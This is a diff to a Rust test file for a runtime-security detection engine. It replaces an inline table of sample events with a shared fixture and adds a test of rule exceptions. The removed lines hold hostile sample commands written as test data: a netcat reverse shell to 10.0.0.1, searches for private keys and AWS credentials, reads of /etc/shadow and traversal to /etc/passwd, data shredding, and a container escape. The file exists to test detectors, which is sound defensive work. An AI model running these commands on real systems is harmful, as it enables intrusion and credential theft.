@@ -8,14 +8,14 @@
 mod event;
 mod filter;
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::env;
 use std::fs;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
-use event::{Event, Process, usual};
+use event::{Event, remarkable, usual};
 use filter::Filter;
 use pinhole_rules::catalogue::Catalogue;
 use pinhole_rules::engine::necessary::Patterns;
@@ -113,113 +113,29 @@ fn usual_events_match_none() {
     }
 }
 
-/// An event, changed from one of the usual ones.
-fn changed(at: usize, change: impl FnOnce(&mut Event)) -> Event {
-    let mut event = usual().swap_remove(at);
-    change(&mut event);
-    event
-}
-
 #[test]
 fn remarkable_events_match_theirs() {
     let Some((catalogue, set)) = compiled() else { return };
-    let open = |path| changed(0, move |event| event.path = path);
-    let run = |name, args| {
-        changed(4, move |event| {
-            event.line[0] = Process::new(name, name, args);
-        })
-    };
-    for (event, wanted) in [
-        (open("/etc/shadow"), vec!["Read sensitive file untrusted"]),
-        (open("/etc/pam.d/common-auth"), vec!["Read sensitive file untrusted"]),
-        // By a shell's child it is allowed.
-        (open("/etc/nginx/../../etc/passwd"), vec![]),
-        (
-            changed(3, |event| event.path = "/etc/nginx/../../etc/passwd"),
-            vec!["Directory traversal monitored file read"],
-        ),
-        (
-            changed(2, |event| {
-                event.path = "/var/log/syslog";
-                event.argument = "O_WRONLY|O_TRUNC";
-            }),
-            vec!["Clear Log Activities"],
-        ),
-        (
-            changed(2, |event| {
-                event.path = "/tmp/cgroup/release_agent";
-                event.capabilities = "CAP_DAC_OVERRIDE CAP_SYS_ADMIN";
-            }),
-            vec!["Detect release_agent File Container Escapes"],
-        ),
-        (
-            run("nc", "-e /bin/sh 10.0.0.1"),
-            vec!["Netcat Remote Code Execution in Container"],
-        ),
-        (
-            run("grep", "-r BEGIN PRIVATE /"),
-            vec!["Search Private Keys or Passwords"],
-        ),
-        (run("find", "/ -name .aws/credentials"), vec!["Find AWS Credentials"]),
-        (run("shred", "-u /tmp/x"), vec!["Remove Bulk Data from Disk"]),
-        (
-            changed(4, |event| event.line[0].exe = "/dev/shm/x"),
-            vec!["Execution from /dev/shm"],
-        ),
-        (
-            changed(5, |event| {
-                event.terminal = 34816;
-                event.line.drain(1..3);
-            }),
-            vec!["Terminal shell in container"],
-        ),
-        (
-            changed(5, |event| event.line[1] = Process::new("nginx", "nginx", "")),
-            vec!["Run shell untrusted"],
-        ),
-        (
-            changed(8, |event| {
-                event.line[0] = Process::new("ssh", "ssh", "-p 443 example.org");
-            }),
-            vec!["Disallowed SSH Connection Non Standard Port"],
-        ),
-        (
-            changed(8, |event| {
-                event.line[0] = Process::new("ssh", "ssh", "-p 443 10.0.0.1");
-                event.server.0 = [10, 0, 0, 1].into();
-            }),
-            vec![],
-        ),
-        (
-            changed(0, |event| {
-                event.kind = "ptrace";
-                event.argument = "PTRACE_ATTACH";
-            }),
-            vec!["PTRACE attached to process"],
-        ),
-        (
-            changed(0, |event| {
-                event.kind = "symlinkat";
-                event.argument = "/etc";
-            }),
-            vec!["Create Symlink Over Sensitive Files"],
-        ),
-        (
-            changed(4, |event| {
-                event.kind = "finit_module";
-                event.capabilities = "CAP_SYS_MODULE";
-            }),
-            vec!["Linux Kernel Module Injection Detected"],
-        ),
-    ] {
-        assert_eq!(
-            matches(&catalogue, &set, &event),
-            wanted,
-            "{} {}",
-            event.kind,
-            event.path
-        );
+    let events = remarkable();
+    let named: BTreeSet<&str> = events.iter().map(|(rule, _)| *rule).collect();
+    let all: BTreeSet<&str> = set.rules().iter().map(|rule| &*rule.name).collect();
+    assert_eq!(named, all);
+    for (rule, event) in events {
+        assert!(matches(&catalogue, &set, &event).contains(&rule.to_owned()), "{rule}");
     }
+}
+
+#[test]
+fn exceptions_of_rules_hold() {
+    let Some((catalogue, set)) = compiled() else { return };
+    let remarkable = |rule| remarkable().into_iter().find(|(name, _)| *name == rule).unwrap().1;
+    // By a shell's child it is allowed.
+    let mut event = remarkable("Read sensitive file untrusted");
+    event.path = "/etc/nginx/../../etc/passwd";
+    assert_eq!(matches(&catalogue, &set, &event), [""; 0]);
+    let mut event = remarkable("Disallowed SSH Connection Non Standard Port");
+    event.server.0 = [10, 0, 0, 1].into();
+    assert_eq!(matches(&catalogue, &set, &event), [""; 0]);
 }
 
 /// What must hold of an event, for a filter with these tests of paths and of paths as they were asked for.
